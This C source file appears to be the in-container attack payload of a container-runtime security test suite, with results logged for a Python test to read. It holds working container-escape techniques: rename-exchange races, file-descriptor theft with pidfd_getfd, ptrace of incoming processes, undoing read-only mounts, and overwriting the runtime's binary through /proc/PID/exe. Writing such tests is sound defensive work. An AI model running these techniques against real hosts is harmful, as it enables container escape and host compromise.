/* What a hostile container does, and what somebody beside it does to the files that it shares: the attacks that
 * cases/attacks.py performs.  A word that finds something writes a line of it to a file, for the test to read. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <unistd.h>

#include "payload.h"

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#define SYS_open_tree_     428
#define SYS_mount_setattr_ 442
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif
#define LAST_FD 32

static int found_fd = -1;

static void found(const char *what, const char *name, const char *target)
{
	char line[PATH_MAX + 256];
	int n = snprintf(line, sizeof(line), "%s %s %s\n", what, name, target);

	if (write(found_fd, line, (size_t)n) < 0)
		_exit(98);
}

static void open_found(const char *path)
{
	found_fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	found("watching", "", "");
}

/* exchange DIR A B: let two names change places, over and over. */
static int word_exchange(int argc, char **argv)
{
	int dir = argc > 3 ? open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC) : -1;

	if (dir < 0 || syscall(SYS_renameat2, dir, argv[2], dir, argv[3], RENAME_EXCHANGE) < 0)
		return 1;
	(void)puts("ready");
	(void)fflush(stdout);
	for (;;)
		(void)syscall(SYS_renameat2, dir, argv[2], dir, argv[3], RENAME_EXCHANGE);
}

/* mounts FILE: add a copy of our mount table to a file; a hook's work. */
static int word_mounts(int argc, char **argv)
{
	int fd = argc > 1 ? open(argv[1], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644) : -1;
	const char *text = payload_read("/proc/self/mountinfo");

	return fd < 0 || write(fd, text, strlen(text)) < 0;
}

/* descriptors FILE: note what we have open, beside standard streams; a hook's work. */
static int word_descriptors(int argc, char **argv)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *entry;

	open_found(argc > 1 ? argv[1] : "/found");
	while (d && (entry = readdir(d))) {
		char target[PATH_MAX];
		long fd = strtol(entry->d_name, NULL, 10);
		ssize_t n = readlinkat(dirfd(d), entry->d_name, target, sizeof(target) - 1);

		if (n < 0 || fd <= STDERR_FILENO || fd == dirfd(d) || fd == found_fd)
			continue;
		target[n] = '\0';
		found("open", entry->d_name, target);
	}
	if (d)
		(void)closedir(d);
	return 0;
}

/* -- looking into processes that are on their way in ----------------------------------------- */

static bool is_our_program(const char *exe)
{
	return strcmp(exe, "/payload") == 0 || strcmp(exe, "/bin/busybox") == 0;
}

/* The target of a link of /proc/PID, or NULL. */
static const char *look(const char *pid, const char *name)
{
	static char target[PATH_MAX];
	char path[640];
	ssize_t n;

	(void)snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
	n = readlink(path, target, sizeof(target) - 1);
	if (n < 0)
		return NULL;
	target[n] = '\0';
	return target;
}

static void look_at_fds(const char *pid)
{
	char path[320];
	DIR *d;
	struct dirent *entry;

	(void)snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	d = opendir(path);
	while (d && (entry = readdir(d))) {
		const char *target;

		if (strtol(entry->d_name, NULL, 10) <= STDERR_FILENO)
			continue;
		(void)snprintf(path, sizeof(path), "fd/%s", entry->d_name);
		target = look(pid, path);
		if (target)
			found("fd", pid, target);
	}
	if (d)
		(void)closedir(d);
}

static void take_fds(const char *pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, strtol(pid, NULL, 10), 0);

	for (int fd = STDERR_FILENO + 1; pidfd >= 0 && fd < LAST_FD; fd++) {
		int stolen = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

		char path[32];
		const char *target;

		if (stolen < 0)
			continue;
		(void)snprintf(path, sizeof(path), "fd/%d", stolen);
		target = look("self", path);
		found("pidfd_getfd", pid, target ? target : "an open file");
		(void)close(stolen);
	}
	if (pidfd >= 0)
		(void)close(pidfd);
}

static void trace(const char *name)
{
	pid_t pid = (pid_t)strtol(name, NULL, 10);
	const char *exe;
	int status;

	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return;
	if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 &&
	    waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
		exe = look(name, "exe");
		if (exe && !is_our_program(exe))
			found("ptrace", name, exe);
		(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
}

static void look_into(const char *pid)
{
	const char *exe = look(pid, "exe");

	if (exe && !is_our_program(exe))
		found("exe", pid, exe);
	look_at_fds(pid);
	take_fds(pid);
	trace(pid);
}

static void for_each_other(void (*act)(const char *pid))
{
	DIR *d = opendir("/proc");
	struct dirent *entry;

	while (d && (entry = readdir(d))) {
		pid_t pid = (pid_t)strtol(entry->d_name, NULL, 10);

		if (pid > 1 && pid != getpid())
			act(entry->d_name);
	}
	if (d)
		(void)closedir(d);
}

/* watch FILE: whatever of a process that is not the container's own can be seen, traced or taken. */
static int word_watch(int argc, char **argv)
{
	open_found(argc > 1 ? argv[1] : "/found");
	while (found_fd >= 0) {
		for_each_other(look_into);
		while (waitpid(-1, NULL, WNOHANG | __WALL) > 0)
			continue;
	}
	return 0;
}

/* -- the runtime's binary ---------------------------------------------------------------------- */

static int grabbed_fd = -1;
static char grabbed_exe[PATH_MAX];

static void grab(const char *pid)
{
	const char *exe = look(pid, "exe");
	char path[320];

	if (grabbed_fd >= 0 || !exe || is_our_program(exe))
		return;
	(void)snprintf(grabbed_exe, sizeof(grabbed_exe), "%s", exe);
	(void)snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	grabbed_fd = open(path, O_PATH | O_CLOEXEC);
}

#define WRITE_TRIES 200000

struct mount_attr_ {
	uint64_t attr_set, attr_clr, propagation, userns_fd;
};

/* A read-only mount that can be made writable again is none: with CAP_SYS_ADMIN this is tried. */
static void unwrap(int fd, const char *path)
{
	struct mount_attr_ attr = {.attr_clr = MS_RDONLY};
	int clone;

	if (syscall(SYS_mount_setattr_, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)) == 0)
		found("unwrapped", "by", "mount_setattr");
	if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
		found("unwrapped", "by", "remount");
	if (mount(path, "/etc/passwd", NULL, MS_BIND, NULL) == 0)
		found("unwrapped", "by", "bind");
	clone = (int)syscall(SYS_open_tree_, fd, "", 1 | AT_EMPTY_PATH | O_CLOEXEC);
	if (clone >= 0)
		found("unwrapped", "by", "open_tree");
	if (clone >= 0 &&
	    syscall(SYS_mount_setattr_, clone, "", AT_EMPTY_PATH, &attr, sizeof(attr)) == 0)
		found("unwrapped", "by", "mount_setattr of a clone");
}

/* grab FILE: hold on to the program of another process in here, wait until nobody executes it, and
 * write over it. */
static int word_grab(int argc, char **argv)
{
	char path[320];
	int fd = -1;

	open_found(argc > 1 ? argv[1] : "/found");
	while (grabbed_fd < 0)
		for_each_other(grab);
	found("grabbed", "exe", grabbed_exe);
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", grabbed_fd);
	unwrap(grabbed_fd, path);
	for (int i = 0; fd < 0 && i < WRITE_TRIES; i++) {
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0 && errno != ETXTBSY)
			break;
	}
	if (fd < 0)
		found("written", "no:", strerror(errno));
	else if (write(fd, "#!overwritten\n", 14) < 0)
		found("written", "no:", strerror(errno));
	else
		found("written", "yes", "");
	while (pause() < 0)
		continue;
	return 0;
}

const struct payload_command attack_commands[] = {
	{"exchange", word_exchange}, {"mounts", word_mounts}, {"descriptors", word_descriptors},
	{"watch", word_watch},       {"grab", word_grab},     {NULL, NULL},
};
